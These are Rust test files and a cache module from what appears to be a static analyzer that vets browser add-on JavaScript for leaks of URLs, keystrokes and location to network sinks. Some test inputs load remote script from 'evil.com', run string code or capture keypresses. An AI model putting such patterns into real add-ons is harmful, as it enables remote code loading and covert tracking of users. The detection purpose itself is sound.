fn exact_domain_inferred_for_constant_url() {
    let (_, r) = run(r#"
var req = new XMLHttpRequest();
req.open("GET", "http://chess.com/api/turn");
req.send(null);
"#);
    assert_eq!(send_domains(&r), vec!["\"http://chess.com/api/turn\""]);
}

#[test]
fn prefix_domain_survives_suffix_variation() {
    // The Section 5 motivating pattern.
    let (_, r) = run(r#"
var baseURL = "www.example.com/req?";
if (Math.random() < 0.5) { baseURL += "name"; } else { baseURL += "age"; }
var req = new XMLHttpRequest();
req.open("GET", baseURL);
req.send(null);
"#);
    let d = send_domains(&r);
    assert_eq!(d, vec!["\"www.example.com/req?\"..."]);
}

#[test]
fn unrelated_domains_join_to_unknown() {
    // The VKVideoDownloader failure mode: three player domains.
    let (_, r) = run(r#"
var url;
if (Math.random() < 0.3) { url = "http://vkontakte.ru/player"; }
else if (Math.random() < 0.6) { url = "http://rutube.ru/video"; }
else { url = "https://video.mail.ru/x"; }
var req = new XMLHttpRequest();
req.open("GET", url);
req.send(null);
"#);
    let sink = r
        .sinks
        .iter()
        .find(|s| s.kind == SinkKind::Send)
        .expect("send sink");
    // Greatest common prefix of the three is "http" -- effectively unknown
    // (no usable domain).
    let text = sink.domain.known_text().unwrap_or("");
    assert!(
        text.len() <= 4,
        "domain should be (close to) unknown, got {:?}",
        sink.domain
    );
}

#[test]
fn xhr_wrapper_helper() {
    let (_, r) = run(r#"
var req = XHRWrapper("http://public.example.org");
req.send("payload");
"#);
    assert_eq!(send_domains(&r), vec!["\"http://public.example.org\""]);
}

#[test]
fn url_source_read_detected() {
    let (lowered, r) = run("var u = content.location.href; send_it(u);");
    let sources = r.source_stmts();
    // Some statement reads the Url source.
    let kinds: Vec<_> = sources.values().flatten().collect();
    assert!(kinds.contains(&&SourceKind::Url), "no url source read found");
    // And it's the LoadProp of href.
    let href_load = lowered
        .program
        .stmts
        .iter()
        .filter(|s| matches!(&s.kind, IrStmtKind::LoadProp { prop: jsir::Operand::Str(p), .. } if p == "href"))
        .map(|s| s.id)
        .collect::<Vec<_>>();
    assert_eq!(href_load.len(), 1);
    assert!(sources.contains_key(&href_load[0]));
}

#[test]
fn key_source_via_event_listener() {
    let (_, r) = run(r#"
window.addEventListener("keypress", function (e) {
  var code = e.keyCode;
  remember(code);
}, false);
"#);
    let sources = r.source_stmts();
    let kinds: Vec<_> = sources.values().flatten().collect();
    assert!(
        kinds.contains(&&SourceKind::Key),
        "handler body should read the key source via the event loop"
    );
}

#[test]
fn event_handlers_reachable_through_loop() {
    let (lowered, r) = run(r#"
function onLoad() { marker_global = 1; }
window.addEventListener("load", onLoad, false);
"#);
    // The body of onLoad must be reachable (the store to marker_global).
    let f = lowered
        .program
        .funcs
        .iter()
        .find(|f| f.name == "onLoad")
        .unwrap();
    let body_reached = f.stmts.iter().any(|s| r.reachable.contains(s));
    assert!(body_reached, "event handler body not analyzed");
}

#[test]
fn set_timeout_function_handler_runs() {
    let (lowered, r) = run("setTimeout(function () { tick_global = 1; }, 1000);");
    let f = &lowered.program.funcs[1];
    assert!(f.stmts.iter().any(|s| r.reachable.contains(s)));
}

#[test]
fn set_timeout_string_flagged_as_dynamic_code() {
    let (_, r) = run("setTimeout(\"doEvil()\", 10);");
    assert!(r
        .api_uses
        .iter()
        .any(|(_, name)| name == "setTimeout$string"));
}

#[test]
fn eval_use_reported() {
    let (_, r) = run("eval(\"x = 1\");");
    assert!(r.api_uses.iter().any(|(_, name)| name == "eval"));
    assert!(r.sinks.iter().any(|s| s.kind == SinkKind::Eval));
}

#[test]
fn scriptloader_reported() {
    let (_, r) = run("Services.scriptloader.loadSubScript(\"http://evil.com/x.js\");");
    assert!(r
        .api_uses
        .iter()
        .any(|(_, name)| name == "Services.scriptloader.loadSubScript"));
    let sl = r
        .sinks
        .iter()
        .find(|s| s.kind == SinkKind::ScriptLoader)
        .unwrap();
    assert_eq!(sl.domain.as_exact(), Some("http://evil.com/x.js"));
}

#[test]
fn closures_capture_outer_vars() {
    let (lowered, r) = run(r#"
function make(prefixStr) {
  return function (suffix) { return prefixStr + suffix; };
}
var f = make("http://fixed.example.com/");
var req = new XMLHttpRequest();
req.open("GET", f("page1"));
req.send(null);
"#);
    let _ = lowered;
    let d = send_domains(&r);
    assert_eq!(d.len(), 1);
    assert!(
        d[0].contains("http://fixed.example.com/"),
        "closure-captured prefix lost: {}",
        d[0]
    );
}

#[test]
fn functions_as_values_tracked() {
    let (lowered, r) = run(r#"
function target() { return 1; }
var alias = target;
alias();
"#);
    // The call through the alias resolves to `target`.
    let target = lowered
        .program
        .funcs
        .iter()
        .find(|f| f.name == "target")
        .unwrap();
    let hit = r
        .call_targets
        .values()
        .any(|t| t.contains(&target.id));
    assert!(hit, "aliased call not resolved");
}

#[test]
fn recursion_terminates_and_analyzes() {
    let (lowered, r) = run(r#"
function count(n) {
  if (n < 1) { return 0; }
  return count(n - 1) + 1;
}
var x = count(5);
"#);
    let f = lowered
        .program
        .funcs
        .iter()
        .find(|f| f.name == "count")
        .unwrap();
    assert!(f.stmts.iter().any(|s| r.reachable.contains(s)));
}

#[test]
fn mutual_recursion_terminates() {
    let (_, r) = run(r#"
function even(n) { if (n == 0) return true; return odd(n - 1); }
function odd(n) { if (n == 0) return false; return even(n - 1); }
var e = even(7);
"#);
    assert!(!r.hit_step_limit);
}

#[test]
fn may_throw_on_possibly_undefined_receiver() {
    let (lowered, r) = run(r#"
var obj;
if (c) { obj = {}; }
try { obj.prop = 1; } catch (e) {}
"#);
    let store = lowered
        .program
        .stmts
        .iter()
        .find(|s| matches!(s.kind, IrStmtKind::StoreProp { .. }))
        .unwrap();
    assert!(r.may_throw.contains(&store.id));
}

#[test]
fn no_throw_on_definite_object() {
    let (lowered, r) = run("var obj = {}; obj.prop = 1;");
    let store = lowered
        .program
        .stmts
        .iter()
        .rfind(|s| matches!(s.kind, IrStmtKind::StoreProp { .. }))
        .unwrap();
    assert!(!r.may_throw.contains(&store.id));
}

#[test]
fn strong_writes_on_singleton_objects() {
    let (lowered, r) = run("var o = { url: \"a\" };");
    let store = lowered
        .program
        .stmts
        .iter()
        .find(|s| matches!(s.kind, IrStmtKind::StoreProp { .. }))
        .unwrap();
    let rw = &r.rw[&store.id];
    let strong = rw
        .writes
        .iter()
        .any(|(l, s)| s == Strength::Strong && l.prop.as_exact() == Some("url"));
    assert!(strong, "object literal store should be a strong write");
}

#[test]
fn weak_writes_in_loops() {
    let (lowered, r) = run(r#"
var i = 0;
while (i < 3) {
  var o = {};
  o.p = i;
  i = i + 1;
}
"#);
    // The allocation site re-executes each iteration. Under recency
    // abstraction the store stays STRONG on the most-recent instance,
    // while older instances live on in an aged summary twin (recorded in
    // `site_aliases`).
    let store = lowered
        .program
        .stmts
        .iter()
        .find(|s| matches!(&s.kind, IrStmtKind::StoreProp { prop: jsir::Operand::Str(p), .. } if p == "p"))
        .unwrap();
    let rw = &r.rw[&store.id];
    assert!(
        rw.writes.iter().any(|(_, s)| s == Strength::Strong),
        "recency keeps the MRU instance strongly updatable"
    );
    assert!(
        !r.site_aliases.is_empty(),
        "re-executed allocation must have an aged twin"
    );
}

#[test]
fn computed_property_reads_are_weak_with_unknown_names() {
    let (lowered, r) = run("var o = { a: 1, b: 2 }; var v = o[getKey()];");
    let load = lowered
        .program
        .stmts
        .iter()
        .rfind(|s| matches!(s.kind, IrStmtKind::LoadProp { .. }))
        .unwrap();
    let rw = &r.rw[&load.id];
    assert!(rw
        .reads
        .iter()
        .any(|(l, s)| s == Strength::Weak && !l.prop.is_exact()));
}

#[test]
fn string_methods_preserve_prefixes() {
    let (_, r) = run(r#"
var base = "HTTP://API.EXAMPLE.COM/Q?";
var url = base.toLowerCase() + encodeURIComponent(userInput);
var req = new XMLHttpRequest();
req.open("GET", url);
req.send(null);
"#);
    let sink = r.sinks.iter().find(|s| s.kind == SinkKind::Send).unwrap();
    assert!(
        sink.domain
            .known_text()
            .is_some_and(|t| t.starts_with("http://api.example.com/q?")),
        "lowercased prefix lost: {}",
        sink.domain
    );
}

#[test]
fn this_binding_in_methods() {
    let (_, r) = run(r#"
var helper = {
  domain: "http://svc.example.net/",
  go: function (q) {
    var req = new XMLHttpRequest();
    req.open("GET", this.domain + q);
    req.send(null);
  }
};
helper.go("a");
"#);
    let d = send_domains(&r);
    assert_eq!(d.len(), 1);
    assert!(
        d[0].contains("http://svc.example.net/"),
        "this.domain prefix lost: {}",
        d[0]
    );
}

#[test]
fn new_on_addon_function_constructs() {
    let (_, r) = run(r#"
function Box(v) { this.value = v; }
var b = new Box(41);
var out = b.value;
"#);
    assert!(!r.hit_step_limit);
    // The construction and read complete; out is the stored number.
    // (Smoke assertion: no crash, reachable everywhere.)
    assert!(r.reachable.len() > 5);
}

#[test]
fn throw_and_catch_value_flow() {
    let (lowered, r) = run(r#"
try {
  throw "secret";
} catch (e) {
  keep_global = e;
}
"#);
    // The catch binding writes to a var; a read/write set exists for it.
    let catch_bind = lowered
        .program
        .stmts
        .iter()
        .find(|s| matches!(s.kind, IrStmtKind::CatchBind { .. }))
        .unwrap();
    let rw = &r.rw[&catch_bind.id];
    assert!(!rw.reads.is_empty());
    assert!(!rw.writes.is_empty());
}

#[test]
fn geolocation_callback_sources() {
    let (_, r) = run(r#"
navigator.geolocation.getCurrentPosition(function (pos) {
  stash_global = pos.coords.latitude;
});
"#);
    let kinds: Vec<_> = r.source_stmts().values().flatten().cloned().collect();
    assert!(kinds.contains(&SourceKind::Geoloc));
}

#[test]
fn xhr_response_handler_invoked() {
    let (lowered, r) = run(r#"
var req = new XMLHttpRequest();
req.open("GET", "http://feed.example.com/data");
req.onreadystatechange = function () { handled_global = req.responseText; };
req.send(null);
"#);
    let handler = &lowered.program.funcs[1];
    assert!(
        handler.stmts.iter().any(|s| r.reachable.contains(s)),
        "XHR response handler must run via the event loop"
    );
    let _ = r;
}

#[test]
fn for_in_enumerates_and_reads() {
    let (lowered, r) = run(r#"
var o = { first: 1, second: 2 };
for (var k in o) {
  use_global = o[k];
}
"#);
    let next = lowered
        .program
        .stmts
        .iter()
        .find(|s| matches!(s.kind, IrStmtKind::ForInNext { .. }))
        .unwrap();
    // Enumeration records a (weak, unknown-name) read of the object.
    let rw = &r.rw[&next.id];
    assert!(rw.reads.iter().any(|(l, _)| !l.prop.is_exact()));
}

#[test]
fn call_targets_recorded_per_site() {
    let (lowered, r) = run("function a() {} function b() {} a(); b();");
    let calls: Vec<_> = lowered
        .program
        .stmts
        .iter()
        .filter(|s| matches!(s.kind, IrStmtKind::Call { .. }))
        .map(|s| s.id)
        .collect();
    assert_eq!(calls.len(), 2);
    for c in calls {
        assert_eq!(
            r.call_targets.get(&c).map(|t| t.len()),
            Some(1),
            "each call resolves to exactly one target"
        );
    }
}

#[test]
fn pref_write_sink() {
    let (_, r) = run("Services.prefs.setCharPref(\"x\", content.location.href);");
    assert!(r.sinks.iter().any(|s| s.kind == SinkKind::PrefWrite));
}

#[test]
fn figure1_example_analyzes() {
    let (_, r) = run(r#"
var data = { url: content.location.href };
send_global(data.url);
if (content.location.href == "secret.com") send_global(null);
var arr = ["covert.com", "priv.com"];
var i = 0, count = 0;
while (arr[i] && content.location.href != arr[i]) { i++; count++; }
send_global(count);
"#);
    assert!(!r.hit_step_limit);
    let kinds: Vec<_> = r.source_stmts().values().flatten().cloned().collect();
    assert!(kinds.contains(&SourceKind::Url));
}

#[test]
fn steps_metric_positive() {
    let (_, r) = run("var x = 1;");
    assert!(r.steps > 0);
}

#[test]
fn context_sensitivity_separates_call_sites() {
    // With k=1, two calls to the same function from different sites use
    // different frames, so the URL prefix from one site is not polluted by
    // the other.
    let (_, r) = run(r#"
function fetch(u) {
  var req = new XMLHttpRequest();
  req.open("GET", u);
  req.send(null);
}
fetch("http://one.example.com/a");
"#);
    let d = send_domains(&r);
    assert_eq!(d, vec!["\"http://one.example.com/a\""]);
}

#[test]
fn catch_reachable_through_implicit_exception_only() {
    // The catch body's only entry is the implicit exception from the
    // possibly-undefined receiver; it must still be analyzed (and its
    // network request discovered).
    let (lowered, r) = run(r#"
var maybe;
if (Math.random() < 0.5) { maybe = {}; }
try {
  maybe.prop = 1;
} catch (e) {
  var req = new XMLHttpRequest();
  req.open("GET", "http://error-report.example.com/oops");
  req.send(null);
}
"#);
    let _ = lowered;
    assert!(
        r.sinks.iter().any(|s| {
            s.domain
                .known_text()
                .is_some_and(|d| d.contains("error-report.example.com"))
        }),
        "catch-only sink missed; sinks: {:?}",
        r.sinks
    );
}

#[test]
fn mixed_native_and_addon_callee_keeps_both_results() {
    // `f` may be the native encodeURIComponent or an addon function; both
    // results must reach the sink domain.
    let (_, r) = run(r#"
function mine(x) { return "http://addon-path.example.com/"; }
var f;
if (Math.random() < 0.5) { f = mine; } else { f = encodeURIComponent; }
var out = f("http://native-path.example.com/");
var req = new XMLHttpRequest();
req.open("GET", out);
req.send(null);
"#);
    let sink = r
        .sinks
        .iter()
        .find(|s| s.kind == SinkKind::Send)
        .expect("sink");
    // The two candidate URLs share only the "http://" prefix; losing the
    // native result would leave the addon result exact instead.
    let text = sink.domain.known_text().unwrap_or("<bot>");
    assert!(
        text.starts_with("http://") && !text.contains("addon-path.example.com/"),
        "domain should be the join of both results, got {text:?}"
    );
}
