//! The analysis-budget hook: a caller-imposed step budget (and wall-clock
//! deadline) that aborts the fixpoint loop with a recorded
//! `BudgetExhausted` instead of running to completion. The service daemon
//! relies on both directions tested here: a generous budget must be a
//! no-op (identical results, identical step counts), and a tiny budget
//! must trip deterministically so `verdict=timeout` responses are stable.

use jsanalysis::{analyze, AnalysisConfig};
use std::time::Duration;

fn lower(source: &str) -> jsir::Lowered {
    jsir::lower(&jsparser::parse(source).expect("test source parses"))
}

const LOOPY: &str = "var total = 0;\n\
                     var i = 0;\n\
                     while (i < 1000) { total = total + i; i = i + 1; }\n";

#[test]
fn generous_budget_changes_nothing() {
    let lowered = lower(LOOPY);
    let plain = analyze(&lowered, &AnalysisConfig::default());
    assert!(plain.budget_exhausted.is_none());

    let budgeted = analyze(
        &lowered,
        &AnalysisConfig {
            step_budget: Some(plain.steps * 10),
            deadline: Some(Duration::from_secs(3600)),
            ..AnalysisConfig::default()
        },
    );
    assert!(budgeted.budget_exhausted.is_none());
    assert_eq!(plain.steps, budgeted.steps, "budget checks must not reschedule work");
    assert_eq!(plain.rw, budgeted.rw);
    assert_eq!(plain.may_throw, budgeted.may_throw);
    assert_eq!(plain.call_targets, budgeted.call_targets);
    assert_eq!(plain.sinks, budgeted.sinks);
    assert_eq!(plain.api_uses, budgeted.api_uses);
    assert_eq!(plain.reachable, budgeted.reachable);
    assert_eq!(plain.cyclic_stmts, budgeted.cyclic_stmts);
}

#[test]
fn tiny_step_budget_trips_deterministically() {
    let lowered = lower(LOOPY);
    let config = AnalysisConfig {
        step_budget: Some(1),
        ..AnalysisConfig::default()
    };
    let first = analyze(&lowered, &config);
    let exhausted = first.budget_exhausted.expect("budget of 1 must trip");
    assert!(!first.hit_step_limit, "budget aborts are not the max_steps valve");
    // The abort happens the moment the counter passes the budget, so the
    // recorded step count is pinned, not merely bounded.
    assert_eq!(exhausted.steps, 2);
    for _ in 0..3 {
        let again = analyze(&lowered, &config);
        assert_eq!(
            again.budget_exhausted.map(|b| b.steps),
            Some(exhausted.steps),
            "budget aborts must be reproducible"
        );
    }
}

#[test]
fn budget_and_step_limit_stay_distinct() {
    let lowered = lower(LOOPY);
    // max_steps still wins when it is the tighter bound: the safety valve
    // reports partial results the old way.
    let r = analyze(
        &lowered,
        &AnalysisConfig {
            max_steps: 1,
            step_budget: Some(1_000_000),
            ..AnalysisConfig::default()
        },
    );
    assert!(r.hit_step_limit);
    assert!(r.budget_exhausted.is_none());
}

#[test]
fn elapsed_is_reported() {
    let lowered = lower(LOOPY);
    let r = analyze(
        &lowered,
        &AnalysisConfig {
            step_budget: Some(3),
            ..AnalysisConfig::default()
        },
    );
    let b = r.budget_exhausted.expect("budget trips");
    // Can't assert much about wall time, but it must be a real reading.
    assert!(b.elapsed <= Duration::from_secs(60));
    assert_eq!(b.steps, 4);
}

#[test]
fn zero_deadline_trips_on_long_enough_runs() {
    // A deadline of zero trips at the first probe (every
    // DEADLINE_CHECK_INTERVAL steps), so it needs a program whose fixpoint
    // takes more steps than one probe interval.
    let source = corpus_like_source();
    let lowered = lower(&source);
    let plain = analyze(&lowered, &AnalysisConfig::default());
    assert!(
        plain.steps > jsanalysis::DEADLINE_CHECK_INTERVAL,
        "need a workload longer than one probe interval, got {} steps",
        plain.steps
    );
    let r = analyze(
        &lowered,
        &AnalysisConfig {
            deadline: Some(Duration::ZERO),
            ..AnalysisConfig::default()
        },
    );
    let b = r.budget_exhausted.expect("zero deadline must trip");
    assert_eq!(b.steps % jsanalysis::DEADLINE_CHECK_INTERVAL, 0);
}

/// A closure-heavy workload big enough to outlast one deadline probe
/// interval (mirrors the shape of the corpus addons).
fn corpus_like_source() -> String {
    let mut src = String::from("var acc = 0;\n");
    for i in 0..40 {
        src.push_str(&format!(
            "var f{i} = function (x) {{ var y = x + {i}; return y; }};\n\
             acc = acc + f{i}(acc);\n"
        ));
    }
    src
}
