//! Tests for the abstract operator semantics, observed through the
//! analysis results of small programs (constant folding shows up as exact
//! inferred network domains; lost precision shows up as prefixes).

use jsanalysis::{analyze, AnalysisConfig, AnalysisResult, SinkKind};

fn run(src: &str) -> AnalysisResult {
    let ast = jsparser::parse(src).expect("parse");
    let lowered = jsir::lower(&ast);
    let r = analyze(&lowered, &AnalysisConfig::default());
    assert!(!r.hit_step_limit);
    r
}

/// The inferred domain of the single send sink.
fn domain(src: &str) -> String {
    let r = run(src);
    let sink = r
        .sinks
        .iter()
        .find(|s| s.kind == SinkKind::Send)
        .expect("send sink");
    sink.domain.known_text().unwrap_or("<bot>").to_owned()
}

/// Builds a program that sends to a URL computed by `expr`.
fn send_of(expr: &str) -> String {
    format!(
        "var req = new XMLHttpRequest();\nreq.open(\"GET\", {expr});\nreq.send(null);"
    )
}

#[test]
fn string_concat_folds_constants() {
    assert_eq!(
        domain(&send_of("\"http://a.example/\" + \"path\" + \"?q=1\"")),
        "http://a.example/path?q=1"
    );
}

#[test]
fn number_concat_uses_canonical_form() {
    // 42 must render "42", not "42.0" -- JS ToString semantics.
    assert_eq!(
        domain(&send_of("\"http://a.example/v\" + 42")),
        "http://a.example/v42"
    );
}

#[test]
fn arithmetic_constant_folding_reaches_strings() {
    // 2 * 3 folds to 6, then concatenates exactly.
    assert_eq!(
        domain(&send_of("\"http://a.example/p\" + (2 * 3)")),
        "http://a.example/p6"
    );
}

#[test]
fn boolean_concat() {
    assert_eq!(
        domain(&send_of("\"http://a.example/f=\" + true")),
        "http://a.example/f=true"
    );
}

#[test]
fn null_and_undefined_concat() {
    assert_eq!(
        domain(&send_of("\"http://a.example/x\" + null")),
        "http://a.example/xnull"
    );
}

#[test]
fn unknown_suffix_keeps_prefix() {
    let d = domain(&send_of("\"http://a.example/q?u=\" + Math.random()"));
    assert_eq!(d, "http://a.example/q?u=");
}

#[test]
fn unknown_prefix_loses_everything() {
    let d = domain(&send_of("Math.random() + \"http://a.example/\""));
    assert_eq!(d, "");
}

#[test]
fn ternary_joins_branches() {
    let d = domain(&send_of(
        "Math.random() < 0.5 ? \"http://a.example/one\" : \"http://a.example/two\"",
    ));
    assert_eq!(d, "http://a.example/");
}

#[test]
fn logical_or_default_pattern() {
    // `pref || fallback`: an unknown-or-string joined with an exact string.
    let r = run(
        r#"
var pref = Services.prefs.getCharPref("x");
var base = pref || "http://fallback.example/";
var req = new XMLHttpRequest();
req.open("GET", base);
req.send(null);
"#,
    );
    let sink = r.sinks.iter().find(|s| s.kind == SinkKind::Send).unwrap();
    // The pref is an arbitrary string, so the join is unknown -- but it
    // must still BE a string-ish domain, not bottom.
    assert!(sink.domain.known_text().is_some());
}

#[test]
fn typeof_results_are_exact_strings() {
    // typeof of a definite number is the exact string "number": using it
    // as a property key keeps strong precision. Observed via a dispatch
    // table whose "number" entry holds the service URL.
    let d = domain(&send_of("({ number: \"http://typed.example/\" })[typeof 42]"));
    assert_eq!(d, "http://typed.example/");
}

#[test]
fn string_equality_decides_branches() {
    // "a" == "b" is statically false: the true branch never runs, so the
    // false branch's domain is exact.
    let r = run(
        r#"
var url;
if ("a" == "b") {
  url = "http://never.example/";
} else {
  url = "http://always.example/";
}
var req = new XMLHttpRequest();
req.open("GET", url);
req.send(null);
"#,
    );
    let sink = r.sinks.iter().find(|s| s.kind == SinkKind::Send).unwrap();
    assert_eq!(sink.domain.as_exact(), Some("http://always.example/"));
}

#[test]
fn numeric_comparison_decides_branches() {
    let r = run(
        r#"
var url = "http://default.example/";
if (1 < 2) {
  url = "http://taken.example/";
}
var req = new XMLHttpRequest();
req.open("GET", url);
req.send(null);
"#,
    );
    let sink = r.sinks.iter().find(|s| s.kind == SinkKind::Send).unwrap();
    assert_eq!(sink.domain.as_exact(), Some("http://taken.example/"));
}

#[test]
fn to_lowercase_preserves_exactness() {
    assert_eq!(
        domain(&send_of("\"HTTP://CASED.EXAMPLE/\".toLowerCase()")),
        "http://cased.example/"
    );
}

#[test]
fn substring_with_constant_bounds() {
    // substring(0, 18) of an exact string is exact.
    assert_eq!(
        domain(&send_of("\"http://cut.example/long/tail\".substring(0, 19)")),
        "http://cut.example/"
    );
}

#[test]
fn replace_degrades_to_unknown() {
    assert_eq!(
        domain(&send_of("\"http://t.example/%s\".replace(\"%s\", \"x\")")),
        ""
    );
}

#[test]
fn trim_preserves_exact() {
    assert_eq!(
        domain(&send_of("\"  http://pad.example/  \".trim()")),
        "http://pad.example/"
    );
}

#[test]
fn array_join_is_unknown_but_stringy() {
    let r = run(&send_of("[\"http://arr.example/\", \"x\"].join(\"\")"));
    let sink = r.sinks.iter().find(|s| s.kind == SinkKind::Send).unwrap();
    assert!(sink.domain.known_text().is_some());
}

#[test]
fn compound_assignment_concat() {
    let r = run(
        r#"
var base = "http://grow.example/?";
base += "a=1";
base += "&b=2";
var req = new XMLHttpRequest();
req.open("GET", base);
req.send(null);
"#,
    );
    let sink = r.sinks.iter().find(|s| s.kind == SinkKind::Send).unwrap();
    assert_eq!(sink.domain.as_exact(), Some("http://grow.example/?a=1&b=2"));
}

#[test]
fn property_dispatch_table_with_exact_key() {
    let r = run(
        r#"
var services = {
  rank: "http://rank.example/api",
  spell: "http://spell.example/api"
};
var mode = "rank";
var req = new XMLHttpRequest();
req.open("GET", services[mode]);
req.send(null);
"#,
    );
    let sink = r.sinks.iter().find(|s| s.kind == SinkKind::Send).unwrap();
    assert_eq!(sink.domain.as_exact(), Some("http://rank.example/api"));
}

#[test]
fn property_dispatch_with_unknown_key_joins() {
    let r = run(
        r#"
var services = {
  rank: "http://svc.example/rank",
  spell: "http://svc.example/spell"
};
var mode = Math.random() < 0.5 ? "rank" : "spell";
var req = new XMLHttpRequest();
req.open("GET", services[mode]);
req.send(null);
"#,
    );
    let sink = r.sinks.iter().find(|s| s.kind == SinkKind::Send).unwrap();
    // Join of the two entries (plus possible undefined for the unknown
    // key) -- at least the shared prefix must survive when the key joins
    // to a prefix covering both names... the keys "rank"/"spell" share no
    // prefix, so the read joins both values and absent-undefined: the
    // common prefix of the two URLs remains.
    let text = sink.domain.known_text().unwrap_or("");
    assert!(
        text.is_empty() || text.starts_with("http://svc.example/"),
        "unexpected domain {text:?}"
    );
}
