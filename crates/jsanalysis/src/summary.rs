//! Per-function analysis summaries for incremental re-vetting.
//!
//! A summary captures one *activation subtree* of the phase-1 fixpoint —
//! a function called at one context, together with every activation it
//! (transitively) spawned — in a form that survives re-parsing an edited
//! addon:
//!
//! - statements are named positionally (`(function position, offset)`),
//!   where a function position is the path of lexical lambda ordinals
//!   from the top level (`"T"`, `"T.0"`, `"T.0.2"`, ...). Positional
//!   names stay stable when *other* functions are edited, which is what
//!   lets a warm run resolve a summary recorded against the previous
//!   version of the program;
//! - contexts and allocation sites are rendered recursively over the
//!   same positional names;
//! - content hashes (from [`jsir::hash`]) appear only in the store key
//!   and the invalidation refs: a summary is usable iff the root's own
//!   hash *and* every member function's hash still match.
//!
//! The store itself is a content-addressed sibling of the signature
//! cache: one JSON document per `(root function hash, canonical config,
//! analyzer version)` key, with atomic writes and mtime-LRU eviction.
//! Corrupt or truncated documents are treated as a miss — the caller
//! re-analyzes and overwrites.

use crate::config::{AnalysisConfig, SinkKind};
use crate::context::{CtxId, CtxTable};
use crate::rwsets::Strength;
use crate::store::{slots, SiteKey, SiteTable, State};
use jsdomains::{
    AObject, AValue, AllocSite, BoolDom, FuncIndex, Lattice, NativeId, NumDom, ObjKind, Pre, Sym,
};
use jsir::hash::FuncManifest;
use jsir::{IrFuncId, IrStmtKind, Lowered, StmtId};
use minijson::Json;
use std::collections::{BTreeSet, HashMap, VecDeque};
use std::path::PathBuf;
use std::sync::{Mutex, OnceLock};

/// Bumped whenever the base analysis changes meaning: stored summaries
/// from other analyzer versions must never be stitched in.
pub const ANALYZER_VERSION: u32 = 1;

/// Schema version of the summary document itself.
pub const SUMMARY_SCHEMA: u32 = 1;

const FNV_OFFSET: u64 = 0xcbf2_9ce4_8422_2325;
const FNV_PRIME: u64 = 0x0000_0100_0000_01b3;

/// The summary-store key for one root function under one configuration:
/// FNV-1a over `(own content hash, canonical config, analyzer version)`,
/// with `0xff` separators (the same keying idiom as the signature cache).
pub fn store_key(own_hash: u64, config: &AnalysisConfig) -> u64 {
    let mut h = FNV_OFFSET;
    let mut eat = |bytes: &[u8]| {
        for &b in bytes {
            h ^= u64::from(b);
            h = h.wrapping_mul(FNV_PRIME);
        }
    };
    eat(&own_hash.to_le_bytes());
    eat(&[0xff]);
    eat(config.canonical_string().as_bytes());
    eat(&[0xff]);
    eat(&ANALYZER_VERSION.to_le_bytes());
    h
}

/// Renders a hash the way documents store it.
pub fn hash_hex(h: u64) -> String {
    format!("{h:016x}")
}

/// Parses a stored hash.
pub fn parse_hash_hex(s: &str) -> Option<u64> {
    u64::from_str_radix(s, 16).ok()
}

// ---------------------------------------------------------------------------
// Stores
// ---------------------------------------------------------------------------

/// Where summary documents live. Implementations are shared across
/// threads (`Arc<dyn SummaryStore>`), so they use interior mutability.
pub trait SummaryStore: Send + Sync {
    /// Fetches the document stored under `key`, if any.
    fn load(&self, key: u64) -> Option<String>;
    /// Stores (or replaces) the document under `key`. Best-effort: a
    /// store that fails to persist simply causes future misses.
    fn save(&self, key: u64, doc: &str);
}

/// An in-memory LRU summary store (daemon default when no `--summary-dir`
/// is given, and the workhorse of the test suite).
pub struct MemorySummaryStore {
    cap: usize,
    inner: Mutex<(HashMap<u64, String>, VecDeque<u64>)>,
}

impl MemorySummaryStore {
    /// A store holding at most `cap` documents.
    pub fn new(cap: usize) -> MemorySummaryStore {
        MemorySummaryStore {
            cap: cap.max(1),
            inner: Mutex::new((HashMap::new(), VecDeque::new())),
        }
    }

    /// Number of documents currently held.
    pub fn len(&self) -> usize {
        self.inner.lock().expect("summary store lock").0.len()
    }

    /// True when the store holds nothing.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }
}

impl SummaryStore for MemorySummaryStore {
    fn load(&self, key: u64) -> Option<String> {
        let mut g = self.inner.lock().expect("summary store lock");
        let (map, order) = &mut *g;
        let doc = map.get(&key).cloned()?;
        order.retain(|k| *k != key);
        order.push_back(key);
        Some(doc)
    }

    fn save(&self, key: u64, doc: &str) {
        let mut g = self.inner.lock().expect("summary store lock");
        let (map, order) = &mut *g;
        if map.insert(key, doc.to_owned()).is_some() {
            order.retain(|k| *k != key);
        }
        order.push_back(key);
        while map.len() > self.cap {
            match order.pop_front() {
                Some(old) => {
                    map.remove(&old);
                }
                None => break,
            }
        }
    }
}

/// An on-disk summary store: one `<key>.json` file per document in a
/// dedicated directory, written atomically (temp file + rename) and
/// bounded by mtime-LRU eviction. Loads bump the file's mtime so hot
/// summaries survive; all I/O errors degrade to a miss.
pub struct DiskSummaryStore {
    dir: PathBuf,
    cap: usize,
}

impl DiskSummaryStore {
    /// Opens (creating if needed) a store in `dir` holding at most `cap`
    /// documents.
    pub fn new(dir: impl Into<PathBuf>, cap: usize) -> std::io::Result<DiskSummaryStore> {
        let dir = dir.into();
        std::fs::create_dir_all(&dir)?;
        Ok(DiskSummaryStore { dir, cap: cap.max(1) })
    }

    fn path(&self, key: u64) -> PathBuf {
        self.dir.join(format!("{key:016x}.json"))
    }

    fn evict(&self) {
        let Ok(entries) = std::fs::read_dir(&self.dir) else {
            return;
        };
        let mut files: Vec<(std::time::SystemTime, PathBuf)> = entries
            .flatten()
            .filter_map(|e| {
                let p = e.path();
                if p.extension().is_some_and(|x| x == "json") {
                    let mtime = e.metadata().and_then(|m| m.modified()).ok()?;
                    Some((mtime, p))
                } else {
                    None
                }
            })
            .collect();
        if files.len() <= self.cap {
            return;
        }
        files.sort();
        for (_, p) in files.iter().take(files.len() - self.cap) {
            let _ = std::fs::remove_file(p);
        }
    }
}

impl SummaryStore for DiskSummaryStore {
    fn load(&self, key: u64) -> Option<String> {
        let p = self.path(key);
        let doc = std::fs::read_to_string(&p).ok()?;
        // Touch for LRU recency; failure only weakens eviction order.
        let times = std::fs::FileTimes::new().set_modified(std::time::SystemTime::now());
        if let Ok(f) = std::fs::File::options().append(true).open(&p) {
            let _ = f.set_times(times);
        }
        Some(doc)
    }

    fn save(&self, key: u64, doc: &str) {
        let tmp = self.dir.join(format!(
            ".{key:016x}.tmp.{}",
            std::process::id()
        ));
        if std::fs::write(&tmp, doc).is_ok() {
            let _ = std::fs::rename(&tmp, self.path(key));
        } else {
            let _ = std::fs::remove_file(&tmp);
        }
        self.evict();
    }
}

// ---------------------------------------------------------------------------
// Positional function naming
// ---------------------------------------------------------------------------

/// Positional names for every function: the top level is `"T"`, and a
